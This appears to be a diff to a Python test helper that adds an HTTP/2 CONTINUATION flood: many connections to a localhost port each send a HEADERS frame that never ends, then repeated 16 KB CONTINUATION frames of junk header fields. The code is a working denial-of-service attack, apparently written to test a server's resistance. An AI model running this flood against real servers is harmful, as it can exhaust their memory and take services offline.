@@ -7,17 +7,32 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import resource
+import ssl
 import struct
+from pathlib import Path
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 SETTINGS, PING, GOAWAY, HEADERS, CONTINUATION = 0x4, 0x6, 0x7, 0x1, 0x9
 ACK = 0x1
+FRAME_BYTES = 16_384  # the default SETTINGS_MAX_FRAME_SIZE
 END_STREAM = 0x1
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(
         ">I", stream & 0x7FFF_FFFF) + payload
+
+
+def _hpack_length(value: int) -> bytes:
+    """An HPACK string length (7-bit prefix, no Huffman)."""
+    if value < 127:
+        return bytes((value,))
+    out, value = bytearray((127,)), value - 127
+    while value >= 128:
+        out.append(value % 128 + 128)
+        value //= 128
+    out.append(value)
+    return bytes(out)
 
 
 def raise_open_files(wanted: int) -> int:
@@ -101,3 +116,41 @@ async def half_prefaces(port: int, count: int) -> list[asyncio.StreamWriter]:
 def close_all(writers: list[asyncio.StreamWriter]) -> None:
     for writer in writers:
         writer.close()
+
+
+async def continuation_flood(
+    port: int, connections: int, frames: int, ca: Path | None = None,
+) -> int:
+    """Open ``connections`` connections at once (TLS trusting ``ca`` if given, ALPN
+    h2); on each, send HEADERS without END_HEADERS and then ``frames`` CONTINUATION
+    frames of 16 KB, each packed with small literal header fields, never ending the
+    header block. No token, no complete request. Returns the bytes sent."""
+    field = b"\x00" + _hpack_length(8) + b"x-junk00" + _hpack_length(40) + b"v" * 40
+    block = field * (FRAME_BYTES // len(field))
+    continuation = frame(CONTINUATION, 0, 1, block)
+    # :method POST, :scheme http, :path /: a request that never finishes its headers.
+    opening = frame(HEADERS, 0, 1, b"\x83\x86\x84")
+    context = None
+    if ca is not None:
+        context = ssl.create_default_context(cafile=str(ca))
+        context.set_alpn_protocols(["h2"])
+
+    async def one() -> int:
+        try:
+            _, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context)
+        except OSError:
+            return 0
+        sent = 0
+        try:
+            writer.write(PREFACE + frame(SETTINGS, 0, 0) + opening)
+            for _ in range(frames):
+                writer.write(continuation)
+                sent += len(continuation)
+                await writer.drain()
+        except (ConnectionError, OSError):
+            pass
+        finally:
+            writer.close()
+        return sent
+
+    return sum(await asyncio.gather(*(one() for _ in range(connections))))
